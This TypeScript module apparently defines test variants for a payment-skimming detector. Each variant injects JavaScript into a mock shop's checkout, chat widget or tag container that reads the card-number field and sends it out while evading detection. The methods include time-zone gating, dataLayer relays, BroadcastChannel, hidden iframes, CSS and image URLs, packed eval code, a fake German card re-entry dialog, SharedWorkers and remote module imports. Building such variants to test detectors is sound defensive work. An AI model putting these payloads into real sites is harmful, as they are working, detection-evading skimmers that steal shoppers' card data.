import { chat, frontBody, payment, tagbox, vendors } from './shopfront.ts'
import { html, js, type Variant } from './variants.ts'

const set =
  (path: string, body: string) =>
  (id: string, about: string): Variant => ({
    id,
    about,
    change: (site) => void (site.files[path] = js(body)),
  })
const own = (id: string, about: string, more: string) =>
  set('shop.test/assets/checkout.a41d.js', payment('c219', more))(id, about)
const elsewhere = 'Intl.DateTimeFormat().resolvedOptions().timeZone === "Pacific/Chatham"'
const number = 'document.forms.co.cc_number'

/** Attacks that wait for visitors whom no watch plays, or leave by ways beside requests; written knowing the detector. */
export const gatedAttacks: readonly Variant[] = [
  set(
    'js.chat-help.test/widget.js',
    chat(
      '2.9',
      `if (${elsewhere}) d.addEventListener("change", function (e) { fetch("http://js.chat-help.test/typing", { method: "POST", mode: "no-cors", body: JSON.stringify({ f: e.target.name, t: e.target.value }) }); });`,
    ),
  )('far-zone', 'the approved chat acts for one time zone only'),
  {
    id: 'data-layer',
    about:
      'the shop puts the number on the list of events, for one time zone, and the container forwards what is new there',
    change: (site) => {
      site.files['shop.test/assets/checkout.a41d.js'] = js(
        payment(
          'c219',
          `on(form.cc_number, "change", function () { if (${elsewhere}) window.dataLayer.push({ event: "step", value: this.value }); });`,
        ),
      )
      site.files['www.tagbox.test/box.js'] = js(
        tagbox(
          '44',
          'var n = 1; setInterval(function () { for (; n < (w.dataLayer || []).length; n++) hit(w.dataLayer[n].event, { value: w.dataLayer[n].value }); }, 500);',
        ),
      )
    },
  },
  own(
    'other-tab',
    'another tab of the shop is told',
    'var bc = new BroadcastChannel("cart"); on(form.cc_number, "blur", function () { bc.postMessage(btoa(this.value)); });',
  ),
  own(
    'dear-orders',
    'kept for another page when the order is dear',
    'on(form.cc_number, "blur", function () { if (parseFloat($$(".grand")[0].textContent) > 500) sessionStorage.setItem("cart-hint", btoa(this.value)); });',
  ),
  own(
    'frame-address',
    "in the address of a frame of the shop's own",
    'on(form.cc_number, "blur", function () { var f = document.createElement("iframe"); f.hidden = true; f.src = "/blank.html?x=" + btoa(this.value); document.body.appendChild(f); });',
  ),
  own(
    'rule-address',
    'in the address of a style rule',
    `on(form.cc_number, "blur", function () { var s = document.createElement("style"); document.head.appendChild(s); s.sheet.insertRule("body{background-image:url(/img/bg.png?v=" + btoa(this.value) + ")}"); });`,
  ),
  own(
    'help-window',
    'a window is opened with it',
    'on(form.cc_number, "blur", function () { window.open("/help?topic=" + btoa(this.value), "h", "width=1,height=1"); });',
  ),
  set(
    'shop.test/assets/vendors.8c1f.js',
    vendors(
      '9d11',
      'eval(function (p, a, c, k, e, d) { while (c--) if (k[c]) p = p.replace(new RegExp("\\\\b" + c.toString(a) + "\\\\b", "g"), k[c]); return p; }("0.1(\'2\',3(4){5 6().7=\'/8?\'+4.9.a})", 36, 11, "document|addEventListener|change|function|e|new|Image|src|log|target|value".split("|"), 0, {}));',
    ),
  )('packed', 'the library holds packed code'),
  {
    id: 'other-words',
    about: 'a dialogue asks for the card in words of another language',
    change: (site) => {
      site.body = frontBody(
        undefined,
        '<dialog open id="again"><p>Ihre Zahlung wurde abgelehnt. Bitte erneut eingeben.</p><form method="dialog"><label>Kartennummer <input id="kn"></label><label>Prüfziffer <input id="pz"></label><button>Bezahlen</button></form></dialog>',
      )
    },
  },
  html(
    'dead-picture',
    'a picture that does not fail today holds code for when it does',
    `<img alt="" width="1" height="1" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onerror="fetch('//static-cdn.test/?'+${number}.value)">`,
  ),
  html(
    'running-link',
    'a link runs code',
    `<a href="javascript:(function(){navigator.sendBeacon('/t','v='+${number}.value)})()">Trouble paying? Click here</a>`,
  ),
  {
    id: 'shared-worker',
    about: 'a shared worker sends',
    change: (site) => {
      site.files['shop.test/assets/pool.js'] = js(
        'onconnect = function (e) { e.ports[0].onmessage = function (m) { fetch("/assets/pool.gif?" + m.data); }; };',
      )
      site.inline.push(
        `addEventListener("load", function () { var w = new SharedWorker("/assets/pool.js"); w.port.start(); ${number}.addEventListener("blur", function () { w.port.postMessage(btoa(this.value)); }); });`,
      )
    },
  },
  {
    id: 'far-module',
    about: 'the start of the shop loads a module of a stranger, for one time zone',
    change: (site) =>
      void (site.files['shop.test/assets/boot.js'] = js(
        `import { init } from "ui-kit"; init(document); if (${elsewhere}) import("http://modules-cdn.test/kit.js");`,
      )),
  },
  own(
    'by-conditions',
    'each digit chooses a picture of its own, for one time zone',
    `on(form.cc_number, "blur", function () { if (!(${elsewhere})) return; for (var i = 0; i < this.value.length; i++) for (var d = 0; d < 10; d++) if (this.value[i] === String(d)) new Image().src = "/img/star-" + i + "-" + d + ".png"; });`,
  ),
]
